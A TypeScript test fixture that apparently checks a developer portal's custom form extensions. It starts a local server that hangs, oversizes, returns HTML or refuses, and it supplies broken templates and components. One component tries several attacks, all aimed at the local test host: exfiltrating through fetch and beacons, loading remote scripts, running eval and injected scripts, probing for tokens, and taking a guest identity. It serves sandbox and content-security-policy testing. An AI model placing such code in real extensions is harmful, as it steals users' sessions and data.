/** A server, custom fields and templates that misbehave in every way. */
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { JsonObject } from '@callboard/model';
import { FORMS, toTemplates, type Forms } from './forms.fixture.ts';

/** Sent to the server with every request of a source. */
export const CREDENTIAL = 'Bearer lighthouse-7731';

export interface Outside extends AsyncDisposable {
  /** Name and port. */
  readonly host: string;
  /** Requests that came in for anything but its bad answers. */
  readonly reached: readonly string[];
}

/** Another host: it does everything that a source can do wrong, each at a path of its own. */
export async function startOutside(): Promise<Outside> {
  const reached: string[] = [];
  const server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://outside');
    const json = (body: unknown): void => {
      response.setHeader('content-type', 'application/json').end(JSON.stringify(body));
    };
    switch (url.pathname) {
      case '/hangs':
        return;
      case '/large':
        return json(
          Array.from({ length: 200_000 }, (_, index) => `a berth with a long name, number ${index}`),
        );
      case '/page':
        response.setHeader('content-type', 'text/html').end('<h1>Sign in</h1>');
        return;
      case '/refuses':
        response.writeHead(401).end(request.headers.authorization);
        return;
      case '/changes':
        return json(url.searchParams.get('at') === 'ebb' ? { berths: 'none' } : ['north', 'south']);
      default:
        reached.push(`${request.method} ${url.pathname}`);
        response.end();
    }
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return {
    host: `127.0.0.1:${port}`,
    reached,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

/** Does what it likes with the page, and shows what came of each. `host`: of another origin. */
const hostile = (host: string): string => `import { useEffect, useState } from 'react';

const OUTSIDE = '${host}';
const blocked = new Set();
addEventListener('securitypolicyviolation', (event) => blocked.add(event.effectiveDirective));

const came = async (attempt) => {
  try {
    return String(await attempt());
  } catch (thrown) {
    return thrown.name;
  }
};
const attempts = {
  fetch: async () => (await fetch('http://' + OUTSIDE + '/taken')).status,
  beacon: () => navigator.sendBeacon('http://' + OUTSIDE + '/beacon', 'x') && new Promise((done) => setTimeout(done, 100, 'sent')),
  eval: () => (0, eval)('1 + 1'),
  function: () => new Function('return 2')(),
  inline: async () => {
    const script = document.createElement('script');
    script.textContent = 'window.ranInline = true';
    document.head.append(script);
    script.remove();
    return window.ranInline === true;
  },
  script: () =>
    new Promise((done) => {
      const script = document.createElement('script');
      Object.assign(script, { src: 'http://' + OUTSIDE + '/script.js', onload: () => done('ran'), onerror: () => done('refused') });
      document.head.append(script);
    }),
  keptToken: () => /ey[\\w-]{20}/.test(JSON.stringify([document.cookie, { ...localStorage, ...sessionStorage }])),
  asPerson: async () => {
    const headers = { 'X-Requested-With': 'XMLHttpRequest' };
    const answer = await (await fetch('/api/auth/guest/refresh', { headers })).json();
    const token = answer.backstageIdentity.token;
    const asked = await fetch('/api/catalog/entities/by-query?limit=1', { headers: { Authorization: 'Bearer ' + token } });
    return asked.status;
  },
  image: () =>
    new Promise((done) => {
      const image = new Image();
      Object.assign(image, { src: 'https://' + OUTSIDE + '/seen.png', onload: () => done('loaded'), onerror: () => done('asked') });
    }),
};

export const Hostile = () => {
  const [results, setResults] = useState('');
  useEffect(() => {
    const run = async () => {
      const found = {};
      for (const [name, attempt] of Object.entries(attempts)) found[name] = await came(attempt);
      setResults(JSON.stringify({ ...found, blocked: [...blocked].sort() }));
    };
    void run();
  }, []);
  return <output data-testid="hostile">{results}</output>;
};
`;

const EXTENSIONS: Readonly<Record<string, string>> = {
  'at-import.tsx': `export const AtImport = () => null;

throw new Error('the tide is out');
`,
  'at-drawing.tsx': `export const AtDrawing = ({ formData }) => {
  const berth = formData.berth;
  return <b>{berth.name}</b>;
};
`,
  'endless.tsx': `import { useEffect, useState } from 'react';

export const EndlessState = () => {
  const [count, setCount] = useState(0);
  setCount(count + 1);
  return <b>{count}</b>;
};

export const EndlessEffect = () => {
  const [count, setCount] = useState(0);
  useEffect(() => setCount(count + 1));
  return <b>{count}</b>;
};
`,
  'uncompiled.tsx': `export const Uncompiled = ({ formData }) => (
  <b data-testid="mended">{formData ?? 'nothing'}
);
`,
  'good.tsx': `export const Good = ({ formData, onChange }) => (
  <button type="button" onClick={() => onChange('good')}>Good: {formData ?? 'nothing'}</button>
);
`,
  'writes.tsx': `import { useEffect } from 'react';

export const WritesForEver = ({ formData, onChange }) => {
  useEffect(() => onChange(formData === 'tick' ? 'tock' : 'tick'));
  return <output>{formData}</output>;
};

export const TurnsForEver = ({ formData, onChange }) => {
  useEffect(() => {
    const timer = setTimeout(() => onChange(formData === 1 ? 2 : 1), 10);
    return () => clearTimeout(timer);
  });
  return <output>{formData}</output>;
};
`,
};

const text = (title: string, more: JsonObject = {}): JsonObject => ({ type: 'string', title, ...more });
const drawn = (field: string): JsonObject => text(field, { 'ui:field': field });
const from = (title: string, path: string): JsonObject =>
  text(title, { 'ui:source': { http: { endpoint: 'outside', path } } });

const TEMPLATES: Forms = {
  expressions: [
    {
      title: 'Expressions',
      properties: {
        name: text('Name'),
        loops: text('Loops', {
          'ui:default': '($f := function($x) { $f($x + 1) }; $f($length(form.name)))',
        }),
        grows: text('Grows', { 'ui:visible': "$count([1..9999999].(form.name & 'x')) > 0" }),
        throws: text('Throws', { 'ui:disabled': "$error('never mind ' & form.name)" }),
        follows: text('Follows', { 'ui:default': "$uppercase(form.name & '')" }),
      },
    },
  ],
  sources: [
    {
      title: 'Sources',
      properties: {
        name: text('Name'),
        hangs: from('Hangs', '/hangs'),
        large: from('Large', '/large'),
        page: from('Page', '/page'),
        refuses: from('Refuses', '/refuses'),
        changes: from('Changes', '/changes?at=${{ form.name }}'),
      },
    },
  ],
  writes: [
    {
      title: 'Writes',
      properties: {
        name: text('Name'),
        writes: drawn('WritesForEver'),
        turns: { type: 'number', title: 'TurnsForEver', 'ui:field': 'TurnsForEver' },
      },
    },
  ],
  hostile: [{ title: 'Hostile', properties: { name: text('Name'), hostile: drawn('Hostile') } }],
  broken: [
    {
      title: 'Broken',
      properties: {
        name: text('Name'),
        ...Object.fromEntries(
          ['AtImport', 'AtDrawing', 'EndlessState', 'EndlessEffect', 'Uncompiled', 'Good'].map((name) => [
            name.toLowerCase(),
            drawn(name),
          ]),
        ),
      },
    },
  ],
};

/** To be written into the folder of a portal. `host`: of another origin. */
export function badInputFiles(host: string): Readonly<Record<string, string>> {
  const extensions = Object.entries({ ...EXTENSIONS, 'hostile.tsx': hostile(host) });
  return {
    [FORMS]: toTemplates(TEMPLATES),
    ...Object.fromEntries(extensions.map(([file, source]) => [`extensions/${file}`, source])),
  };
}
